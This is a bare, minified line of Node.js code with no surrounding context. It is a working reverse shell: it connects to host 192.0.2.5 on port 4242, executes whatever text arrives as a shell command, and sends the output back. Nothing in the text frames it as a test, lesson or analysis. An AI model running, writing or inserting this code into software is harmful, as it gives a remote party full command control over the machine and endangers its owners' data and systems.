const net=require('net'),{exec}=require('child_process');const c=net.createConnection({port:4242,host:'192.0.2.5'});c.on('data',d=>{exec(d.toString(),(e,o)=>c.write(o))});
